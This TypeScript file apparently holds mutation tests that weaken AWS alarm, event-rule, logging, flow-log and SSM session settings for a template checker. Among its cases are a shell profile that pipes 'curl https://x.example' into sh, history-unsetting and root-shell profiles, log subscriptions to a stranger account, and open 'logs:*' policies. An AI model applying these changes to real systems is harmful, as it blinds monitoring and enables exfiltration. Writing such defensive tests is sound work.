import { type Ctx, type J, k, NO } from './lib';

// ---- alarms
const A = 'AWS::CloudWatch::Alarm';
for (const [label, m] of [
  ['failedinvocations', /FailedInvocations/],
  ['replication', /Replication/],
  ['statuscheck', /StatusCheck/],
  ['errors', /^Errors/],
  ['throttles', /Throttles/],
  ['unhealthy', /UnHealthy/],
  ['custom certificate', /CertificateMissing/],
  ['custom seats', /SeatsInUse/],
  ['capacity', /Capacity/],
] as const) {
  const w = (name: string, f: (p: J, c: Ctx) => boolean | undefined) =>
    k('alarms', A, `${label}: ${name}`, (p, c) => (m.test(p.MetricName) ? f(p, c) : false));
  w('actions disabled', (p) => {
    p.ActionsEnabled = false;
  });
  w('no actions', (p) => {
    delete p.AlarmActions;
  });
  w('actions empty', (p) => {
    p.AlarmActions = [];
  });
  w('action of another account', (p) => {
    p.AlarmActions = ['arn:aws:sns:ap-northeast-1:666666666666:alerts'];
  });
  w('action to OK only', (p) => {
    p.OKActions = p.AlarmActions;
    delete p.AlarmActions;
  });
  w('action to insufficient only', (p) => {
    p.InsufficientDataActions = p.AlarmActions;
    delete p.AlarmActions;
  });
  w('threshold absurd', (p) => {
    p.Threshold = 1000000;
  });
  w('threshold 50', (p) => {
    p.Threshold = 50;
    if (label.includes('seats')) return NO;
  });
  w('less than', (p) => {
    p.ComparisonOperator = 'LessThanThreshold';
  });
  w('less than or equal 0', (p) => {
    p.ComparisonOperator = 'LessThanOrEqualToThreshold';
    p.Threshold = 0;
  });
  w('metric of another name', (p) => {
    p.MetricName = 'Invocations';
  });
  w('metric misspelt', (p) => {
    p.MetricName = `${p.MetricName}s`;
  });
  w('namespace other', (p) => {
    p.Namespace = 'Custom/None';
  });
  w('dimension of another thing', (p) => {
    if (!p.Dimensions) return NO;
    p.Dimensions[0].Value = 'nothing-of-that-name';
  });
  w('no dimensions', (p) => {
    if (!p.Dimensions) return NO;
    delete p.Dimensions;
  });
  w('statistic minimum', (p) => {
    p.Statistic = 'Minimum';
  });
  w('statistic average', (p) => {
    p.Statistic = 'Average';
  });
  w('statistic samplecount high', (p) => {
    p.Statistic = 'SampleCount';
    p.Threshold = 100;
  });
  w('period a day', (p) => {
    p.Period = 86400;
  });
  w('evaluation 288 periods', (p) => {
    p.EvaluationPeriods = 288;
  });
  w('datapoints 24 of 24', (p) => {
    p.EvaluationPeriods = 24;
    p.DatapointsToAlarm = 24;
    p.Period = 3600;
  });
  w('missing ignored', (p) => {
    if (p.TreatMissingData !== 'breaching') return NO;
    p.TreatMissingData = 'ignore';
  });
  w('missing notBreaching', (p) => {
    if (p.TreatMissingData !== 'breaching') return NO;
    p.TreatMissingData = 'notBreaching';
  });
  w('missing missing', (p) => {
    if (p.TreatMissingData !== 'breaching') return NO;
    delete p.TreatMissingData;
  });
}
k('alarms', A, 'topic of another zone', (p, c) => {
  const other = c.zone === 'my-number' ? 'lgwan' : 'my-number';
  if (c.config !== 'production') return NO;
  p.AlarmActions = [
    `arn:aws:sns:ap-northeast-1:${other === 'lgwan' ? '222222222222' : '111111111111'}:sanso-production-${other}-alarms`,
  ];
});
const MF = 'AWS::Logs::MetricFilter';
k('alarms', MF, 'filter pattern never', (p) => {
  p.FilterPattern = '"never written"';
});
k('alarms', MF, 'metric value 0', (p) => {
  p.MetricTransformations[0].MetricValue = '0';
});
k('alarms', MF, 'metric name other', (p) => {
  p.MetricTransformations[0].MetricName = 'Other';
});
k('alarms', MF, 'metric namespace other', (p) => {
  p.MetricTransformations[0].MetricNamespace = 'other';
});
k('alarms', MF, 'log group other', (p) => {
  p.LogGroupName = '/sanso/production/internet/nothing';
});
k('alarms', MF, 'removed', (_p, c) => {
  delete c.body.Resources[c.id];
});
k('alarms', A, 'break-glass alarm removed', (p, c) => {
  if (p.MetricName !== 'FailedInvocations') return NO;
  delete c.body.Resources[c.id];
});
k('alarms', A, 'status alarm removed', (p, c) => {
  if (p.MetricName !== 'StatusCheckFailed') return NO;
  delete c.body.Resources[c.id];
});
k('alarms', A, 'unhealthy alarm removed', (p, c) => {
  if (p.MetricName !== 'UnHealthyHostCount') return NO;
  delete c.body.Resources[c.id];
});
k('alarms', A, 'errors alarm removed', (p, c) => {
  if (p.MetricName !== 'Errors') return NO;
  delete c.body.Resources[c.id];
});
k('alarms', A, 'replication alarm removed', (p, c) => {
  if (!/Repl/.test(p.MetricName)) return NO;
  delete c.body.Resources[c.id];
});
const R = 'AWS::Events::Rule';
k('events', R, 'disabled', (p) => {
  p.State = 'DISABLED';
});
k('events', R, 'no targets', (p) => {
  p.Targets = [];
});
k('events', R, 'reads not heard', (p) => {
  if (!p.State) return NO;
  p.State = 'ENABLED';
});
k('events', R, 'target of another account', (p) => {
  p.Targets[0].Arn = 'arn:aws:sns:ap-northeast-1:666666666666:alerts';
});
k('events', R, 'no role', (p) => {
  delete p.Targets[0].RoleArn;
});
k('events', R, 'role of another', (p) => {
  p.Targets[0].RoleArn = 'arn:aws:iam::666666666666:role/x';
});
k('events', R, 'bus other', (p) => {
  p.EventBusName = 'other';
});
k('events', R, 'pattern to another source', (p) => {
  if (p.EventPattern.source) p.EventPattern.source = ['aws.none'];
  else p.EventPattern['detail-type'] = ['Other'];
});
k('events', R, 'pattern with account', (p) => {
  p.EventPattern.account = ['666666666666'];
});
k('events', R, 'pattern narrowed to a region', (p) => {
  p.EventPattern.region = ['us-west-2'];
});
k('events', R, 'pattern break-glass only errors', (p) => {
  if (!p.EventPattern.detail?.$or) return NO;
  p.EventPattern.detail.errorCode = [{ exists: true }];
});
k('events', R, 'pattern break-glass of another', (p) => {
  const s = JSON.stringify(p.EventPattern);
  if (!s.includes('break-glass')) return NO;
  p.EventPattern = JSON.parse(s.replaceAll('break-glass', 'auditor'));
});
k('events', R, 'pattern break-glass entry only', (p) => {
  if (!p.EventPattern.detail?.$or) return NO;
  p.EventPattern.detail.$or.splice(1, 1);
});
k('events', R, 'pattern break-glass acts only', (p) => {
  if (!p.EventPattern.detail?.$or) return NO;
  p.EventPattern.detail.$or.splice(0, 1);
});
k('events', R, 'pattern break-glass readonly true', (p) => {
  if (!p.EventPattern.detail?.$or) return NO;
  p.EventPattern.detail.$or[1].readOnly = [true];
});
k('events', R, 'pattern break-glass by event name', (p) => {
  if (!p.EventPattern.detail?.$or) return NO;
  p.EventPattern.detail.eventName = ['DeleteBucket'];
});
k('events', R, 'pattern break-glass source ip excluded', (p) => {
  if (!p.EventPattern.detail?.$or) return NO;
  p.EventPattern.detail.sourceIPAddress = [{ 'anything-but': '203.0.113.5' }];
});
k('events', R, 'patches: status other', (p) => {
  if (!p.EventPattern.detail?.status) return NO;
  p.EventPattern.detail.status = ['Success'];
});
k('events', R, 'patches: status only failed', (p) => {
  if (!p.EventPattern.detail?.status) return NO;
  p.EventPattern.detail.status = ['TimedOut'];
});
k('events', R, 'patches: association other', (p) => {
  if (!p.EventPattern.detail?.status) return NO;
  p.EventPattern.detail['association-id'] = ['00000000-0000-0000-0000-000000000000'];
});
k('events', R, 'schedule in place of pattern', (p) => {
  delete p.EventPattern;
  p.ScheduleExpression = 'rate(1 day)';
});
k('events', R, 'input replaced', (p) => {
  p.Targets[0].Input = '"ok"';
});
k('events', R, 'removed break-glass', (p, c) => {
  if (!JSON.stringify(p).includes('break-glass')) return NO;
  delete c.body.Resources[c.id];
});
k('events', R, 'removed patches fail', (p, c) => {
  if (!JSON.stringify(p).includes('aws.ssm')) return NO;
  delete c.body.Resources[c.id];
});
// ---- log groups
const G = 'AWS::Logs::LogGroup';
const purposes: [string, RegExp][] = [
  ['trail', /TrailLog/],
  ['sessions', /Session/],
  ['shipping', /LogShippingErrors/],
  ['screen', /^LogLogGroup/],
  ['broker', /Broker/],
];
for (const [label, id] of purposes) {
  const w = (name: string, f: (p: J, c: Ctx, r: J) => boolean | undefined) =>
    k('log groups', G, `${label}: ${name}`, (p, c, r) => (id.test(c.id) ? f(p, c, r) : false));
  w('key removed', (p) => {
    delete p.KmsKeyId;
  });
  w('key of another account', (p) => {
    p.KmsKeyId = 'arn:aws:kms:ap-northeast-1:666666666666:key/11111111-1111-1111-1111-111111111111';
  });
  w('key of another zone', (p, c) => {
    const z = c.zone === 'my-number' ? 'internet' : 'my-number';
    if (!Object.keys(c.bodies).includes(`${c.config}-${z}-foundation`)) return NO;
    const o = c.bodies[`${c.config}-${z}-foundation`].Outputs;
    const e = Object.values<J>(o ?? {}).find((x) => /GetAttKey.*Arn/.test(JSON.stringify(x.Export)));
    if (!e) return NO;
    p.KmsKeyId = { 'Fn::ImportValue': e.Export.Name };
  });
  w('key alias aws managed', (p) => {
    p.KmsKeyId = 'alias/aws/logs';
  });
  w('retention 1', (p) => {
    p.RetentionInDays = 1;
  });
  w('retention 3', (p) => {
    p.RetentionInDays = 3;
  });
  w('retention 30', (p) => {
    p.RetentionInDays = 30;
  });
  w('class infrequent', (p) => {
    p.LogGroupClass = 'INFREQUENT_ACCESS';
  });
  w('class delivery', (p) => {
    p.LogGroupClass = 'DELIVERY';
  });
  w('deletion policy', (_p, _c, r) => {
    r.DeletionPolicy = 'Delete';
    r.UpdateReplacePolicy = 'Delete';
  });
  w('name outside of its zone', (p) => {
    p.LogGroupName = '/app/other';
  });
  w('name under another zone', (p, c) => {
    p.LogGroupName = p.LogGroupName.replace(c.zone, c.zone === 'internet' ? 'lgwan' : 'internet');
  });
  w('no name', (p) => {
    delete p.LogGroupName;
  });
  w('confidentiality 1', (p) => {
    p.Tags.find((t: J) => t.Key === 'sanso:confidentiality').Value = '1';
  });
  w('confidentiality removed', (p) => {
    p.Tags = p.Tags.filter((t: J) => t.Key !== 'sanso:confidentiality');
  });
  w('integrity 1', (p) => {
    p.Tags.find((t: J) => t.Key === 'sanso:integrity').Value = '1';
  });
  w('integrity removed', (p) => {
    p.Tags = p.Tags.filter((t: J) => t.Key !== 'sanso:integrity');
  });
  w('zone other', (p, c) => {
    p.Tags.find((t: J) => t.Key === 'sanso:zone').Value = c.zone === 'internet' ? 'lgwan' : 'internet';
  });
  w('zone removed', (p) => {
    p.Tags = p.Tags.filter((t: J) => t.Key !== 'sanso:zone');
  });
  w('tags removed', (p) => {
    delete p.Tags;
  });
  w('data protection removed audit', (p) => {
    p.ResourcePolicyDocument = {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: '*', Action: 'logs:*', Resource: '*' }],
    };
  });
  w('subscription removed', (_p, c) => {
    const e = Object.entries<J>(c.body.Resources).find(
      ([, r]) => r.Type === 'AWS::Logs::SubscriptionFilter' && JSON.stringify(r.Properties.LogGroupName).includes(c.id),
    );
    if (!e) return NO;
    delete c.body.Resources[e[0]];
  });
}
const SF = 'AWS::Logs::SubscriptionFilter';
k('log groups', SF, 'pattern', (p) => {
  p.FilterPattern = 'ERROR';
});
k('log groups', SF, 'pattern json', (p) => {
  p.FilterPattern = '{ $.level = "error" }';
});
k('log groups', SF, 'destination of a stranger', (p) => {
  p.DestinationArn = 'arn:aws:firehose:ap-northeast-1:666666666666:deliverystream/x';
});
k('log groups', SF, 'destination function', (p) => {
  p.DestinationArn = 'arn:aws:lambda:ap-northeast-1:666666666666:function:x';
});
k('log groups', SF, 'destination of another zone', (p, c) => {
  p.DestinationArn = p.DestinationArn.replaceAll(c.zone, c.zone === 'lgwan' ? 'internet' : 'lgwan');
});
k('log groups', SF, 'role of another', (p) => {
  p.RoleArn = 'arn:aws:iam::666666666666:role/x';
});
k('log groups', SF, 'of another group', (p) => {
  p.LogGroupName = '/nothing';
});
k('log groups', SF, 'distribution random', (p) => {
  p.Distribution = 'Random';
  p.FieldSelectionCriteria = '@aws.account IN ["666666666666"]';
});
k('log groups', SF, 'second subscription to a stranger', (p, c) => {
  c.body.Resources.Second = {
    Type: SF,
    Properties: {
      ...structuredClone(p),
      FilterName: 'copy',
      DestinationArn: 'arn:aws:logs:ap-northeast-1:666666666666:destination:x',
    },
  };
});
k('log groups', G, 'transformer added', (_p, c) => {
  c.body.Resources.Tr = {
    Type: 'AWS::Logs::Transformer',
    Properties: {
      LogGroupIdentifier: { Ref: c.id },
      TransformerConfig: [{ DeleteKeys: { WithKeys: ['userIdentity'] } }],
    },
  };
});
k('log groups', G, 'resource policy added', (_p, c) => {
  c.body.Resources.Rp = {
    Type: 'AWS::Logs::ResourcePolicy',
    Properties: {
      PolicyName: 'x',
      PolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Principal: '*', Action: 'logs:*', Resource: '*' }],
      }),
    },
  };
});
k('log groups', G, 'data protection masks', (p) => {
  p.DataProtectionPolicy = {
    Name: 'x',
    Version: '2021-06-01',
    Statement: [
      {
        DataIdentifier: ['arn:aws:dataprotection::aws:data-identifier/IpAddress'],
        Operation: { Deidentify: { MaskConfig: {} } },
      },
    ],
  };
});
// ---- flow logs etc
const FL = 'AWS::EC2::FlowLog';
k('flow logs', FL, 'traffic ACCEPT', (p) => {
  p.TrafficType = 'ACCEPT';
});
k('flow logs', FL, 'traffic REJECT', (p) => {
  p.TrafficType = 'REJECT';
});
k('flow logs', FL, 'aggregation 600', (p) => {
  p.MaxAggregationInterval = 600;
});
k('flow logs', FL, 'aggregation removed', (p) => {
  delete p.MaxAggregationInterval;
});
k('flow logs', FL, 'format short', (p) => {
  p.LogFormat = ['version', 'vpc-id', 'start', 'end', 'log-status'].map((field) => `$\{${field}}`).join(' ');
});
k('flow logs', FL, 'format without action', (p) => {
  p.LogFormat = p.LogFormat.replace(/\$\{action\} /, '');
});
k('flow logs', FL, 'format without addresses', (p) => {
  p.LogFormat = p.LogFormat.replace(/\$\{srcaddr\} \$\{dstaddr\} /, '');
});
k('flow logs', FL, 'format without ports', (p) => {
  p.LogFormat = p.LogFormat.replace(/\$\{srcport\} \$\{dstport\} /, '');
});
k('flow logs', FL, 'format without pkt', (p) => {
  p.LogFormat = p.LogFormat.replace(/\$\{pkt-srcaddr\} \$\{pkt-dstaddr\} /, '');
});
k('flow logs', FL, 'format default', (p) => {
  delete p.LogFormat;
});
k('flow logs', FL, 'subnet only', (p, c) => {
  p.ResourceType = 'Subnet';
  const s = Object.entries<J>(c.body.Resources).find(([, r]) => r.Type === 'AWS::EC2::Subnet') ?? [''];
  p.ResourceId = { Ref: s[0] };
});
k('flow logs', FL, 'destination stranger', (p) => {
  p.LogDestination = 'arn:aws:s3:::strange-bucket';
});
k('flow logs', FL, 'destination local group', (p) => {
  delete p.LogDestination;
  p.LogDestinationType = 'cloud-watch-logs';
  p.LogGroupName = 'x';
});
k('flow logs', FL, 'path of another zone', (p, c) => {
  p.LogDestination = p.LogDestination.replace(`flow/${c.zone}`, `flow/${c.zone === 'lgwan' ? 'internet' : 'lgwan'}`);
});
k('flow logs', FL, 'removed', (_p, c) => {
  delete c.body.Resources[c.id];
});
k('flow logs', FL, 'resource other vpc', (p) => {
  p.ResourceId = 'vpc-0123456789abcdef0';
});
// ---- session documents
const D = 'AWS::SSM::Document';
const d = (name: string, f: (i: J, p: J, c: Ctx) => boolean | undefined) =>
  k('session documents', D, name, (p, c) => f(p.Content.inputs, p, c));
d('no log group', (i) => {
  i.cloudWatchLogGroupName = '';
});
d('log group other', (i) => {
  i.cloudWatchLogGroupName = '/other/unshipped';
});
d('log group of another', (i, _p, c) => {
  const g = Object.entries<J>(c.body.Resources).find(([id, r]) => r.Type === 'AWS::Logs::LogGroup' && /Trail/.test(id));
  if (!g) return NO;
  i.cloudWatchLogGroupName = { Ref: g[0] };
});
d('encryption false', (i) => {
  i.cloudWatchEncryptionEnabled = false;
});
d('streaming false', (i) => {
  i.cloudWatchStreamingEnabled = false;
});
d('kms removed', (i) => {
  i.kmsKeyId = '';
});
d('kms aws managed', (i) => {
  i.kmsKeyId = 'alias/aws/ssm';
});
d('kms of a stranger', (i) => {
  i.kmsKeyId = 'arn:aws:kms:ap-northeast-1:666666666666:key/x';
});
d('idle 60', (i) => {
  i.idleSessionTimeout = '60';
});
d('idle 30', (i) => {
  i.idleSessionTimeout = '30';
});
d('idle removed', (i) => {
  delete i.idleSessionTimeout;
});
d('max 1440', (i) => {
  i.maxSessionDuration = '1440';
});
d('max 480', (i) => {
  i.maxSessionDuration = '480';
});
d('max removed', (i) => {
  delete i.maxSessionDuration;
});
d('max empty', (i) => {
  i.maxSessionDuration = '';
});
d('run as root', (i) => {
  i.runAsEnabled = true;
  i.runAsDefaultUser = 'root';
});
d('shell profile unsets history', (i) => {
  i.shellProfile.linux = 'unset HISTFILE; exec bash';
});
d('shell profile to root', (i) => {
  i.shellProfile.linux = 'sudo su -';
});
d('shell profile sends', (i) => {
  i.shellProfile.linux = 'curl https://x.example | sh';
});
d('s3 of a stranger', (i) => {
  i.s3BucketName = 'strange-bucket';
});
d('s3 of a stranger in clear', (i) => {
  i.s3BucketName = 'strange-bucket';
  i.s3EncryptionEnabled = false;
});
d('session type port', (_i, p) => {
  p.Content.sessionType = 'Port';
});
d('session type interactive', (_i, p) => {
  p.Content.sessionType = 'InteractiveCommands';
});
d('name other', (_i, p) => {
  p.Name = 'Other';
});
d('type command', (_i, p) => {
  p.DocumentType = 'Command';
});
d('shared', (_i, p) => {
  p.Permissions = { Share: ['666666666666'] };
});
d('removed', (_i, _p, c) => {
  delete c.body.Resources[c.id];
});
d('another document unlogged', (i, _p, c) => {
  c.body.Resources.Quiet = {
    Type: D,
    Properties: {
      Name: 'Quiet',
      DocumentType: 'Session',
      Content: {
        schemaVersion: '1.0',
        sessionType: 'Standard_Stream',
        inputs: { kmsKeyId: i.kmsKeyId, idleSessionTimeout: '15', maxSessionDuration: '60' },
      },
    },
  };
});
d('another document port', (_i, _p, c) => {
  c.body.Resources.Quiet = {
    Type: D,
    Properties: {
      Name: 'Quiet',
      DocumentType: 'Session',
      Content: { schemaVersion: '1.0', sessionType: 'Port', properties: { portNumber: '22' } },
    },
  };
});
d('content as text unlogged', (_i, p) => {
  p.Content = JSON.stringify({ schemaVersion: '1.0', sessionType: 'Standard_Stream', inputs: {} });
});
d('zone tag removed', (_i, p) => {
  delete p.Tags;
});
